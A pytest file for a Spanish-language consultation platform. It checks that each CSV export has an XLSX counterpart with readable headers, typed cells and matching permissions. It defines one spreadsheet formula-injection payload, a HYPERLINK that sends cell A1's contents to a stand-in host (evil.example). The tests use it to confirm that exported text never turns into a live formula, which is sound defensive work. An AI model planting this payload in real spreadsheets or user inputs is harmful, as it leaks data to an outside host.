"""Every CSV download has an XLSX sibling: same rows, headers for people, typed cells."""
from __future__ import annotations

import csv
import datetime as dt
import io
import tempfile
from pathlib import Path

import openpyxl
import pytest

from participa import exports
from participa.extensions import db

from conftest import login_with_code

pytest_plugins = ["factories_consultations"]

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Ver")'


def _csv_rules(app):
    return sorted((rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")),
                  key=lambda rule: rule.rule)


def _csv_paths():
    from conftest import make_app

    return [rule.rule for rule in _csv_rules(make_app(Path(tempfile.mkdtemp())))]


@pytest.fixture
def data(app, people, institutions, make_consultation):
    """A closed consultation with a question, a ballot and a comment, and audit entries."""
    from participa.ballots import service as ballots
    from participa.consultations import comments
    from participa.models import Stance
    from participa.models.audit import record

    from factories_consultations import shift

    consultation = make_consultation(phase="draft")
    question = ballots.add_question(people["official_msp"], consultation,
                                    text="¿Está de acuerdo?", max_choices=1,
                                    options_text="Sí\nNo")
    db.session.commit()
    shift(consultation, opens_days=-1, closes_days=10)
    comments.add_comment(people["citizen"], consultation, body=HOSTILE, stance=Stance.FOR)
    db.session.commit()
    shift(consultation, opens_days=-30, closes_days=-2)
    for institution in institutions.values():
        record("moderation.hidden", actor=people["admin_mdt"], institution=institution,
               reason=HOSTILE)
    db.session.commit()
    return {"consultation_id": consultation.id, "acronym": "MDT",
            "slug": "uso-contacto-ciudadano", "question": question, "year": 2026}


def _url(path, data):
    for name, value in data.items():
        path = path.replace(f"<int:{name}>", str(value)).replace(f"<{name}>", str(value))
    return path


def test_every_csv_route_has_an_xlsx_sibling(app):
    routes = {rule.rule for rule in app.url_map.iter_rules()}
    missing = [rule.rule for rule in _csv_rules(app)
               if rule.rule.removesuffix(".csv") + ".xlsx" not in routes]
    assert missing == []


def test_every_csv_column_has_a_header_for_people(app, client, people, data):
    login_with_code(client, people["platform_admin"])
    for path in _csv_paths():
        text = client.get(_url(path, data)).get_data(as_text=True).lstrip("\ufeff")
        columns = next(csv.reader(io.StringIO(text)))
        assert [c for c in columns if c not in exports.COLUMNS] == [], path


# The LOTAIP annual report is one CSV of three blocks (requests, totals, reserved index) and a
# workbook of three sheets: tests/test_lotaip_report.py checks both.
COMPOSITE_REPORTS = {"/transparencia/<acronym>/informe/<int:year>.csv"}


@pytest.mark.parametrize("path", [p for p in _csv_paths() if p not in COMPOSITE_REPORTS])
def test_the_xlsx_sibling_opens_with_typed_numbers(app, client, people, data, path):
    login_with_code(client, people["platform_admin"])
    url = _url(path, data)
    as_csv = client.get(url)
    response = client.get(url.removesuffix(".csv") + ".xlsx")
    assert response.status_code == 200, url
    assert response.mimetype == ("application/vnd.openxmlformats-officedocument."
                                 "spreadsheetml.sheet")
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    csv_rows = list(csv.reader(io.StringIO(as_csv.get_data(as_text=True).lstrip("\ufeff"))))
    # The same rows as the CSV, under headers for people instead of machine names.
    assert len(rows) == len(csv_rows), url
    assert list(rows[0]) == exports.header(csv_rows[0])
    assert list(rows[0]) != csv_rows[0]
    cells = [cell for row in rows[1:] for cell in row]
    assert any(isinstance(c, (int, float)) and not isinstance(c, bool) for c in cells), url
    # Text that looks like a formula stays text.
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", url


def test_the_comments_workbook_types_dates_and_keeps_the_text(client, people, data):
    login_with_code(client, people["platform_admin"])
    response = client.get(f"/consultas/{data['consultation_id']}/comentarios.xlsx")
    rows = list(openpyxl.load_workbook(io.BytesIO(response.data)).active.iter_rows(
        values_only=True))
    record = dict(zip(exports.header(["comment_id", "created_at_ecuador", "text", "official"]),
                      [None] * 4))
    named = dict(zip(rows[0], rows[1]))
    assert set(record) <= set(named)
    assert isinstance(named[str(exports.COLUMNS["comment_id"][0])], int)
    assert isinstance(named[str(exports.COLUMNS["created_at_ecuador"][0])], dt.datetime)
    assert named[str(exports.COLUMNS["text"][0])] == HOSTILE
    assert named[str(exports.COLUMNS["official"][0])] is False


def test_the_xlsx_siblings_keep_the_csv_permissions(client, people, data):
    # The public may not download the comments of an open consultation, nor the audit log.
    assert client.get("/admin/registro.xlsx").status_code in (302, 401, 403)
    login_with_code(client, people["citizen"])
    assert client.get("/admin/registro.xlsx").status_code == 403
    assert client.get("/admin/instituciones/MDT/registro.xlsx").status_code == 403
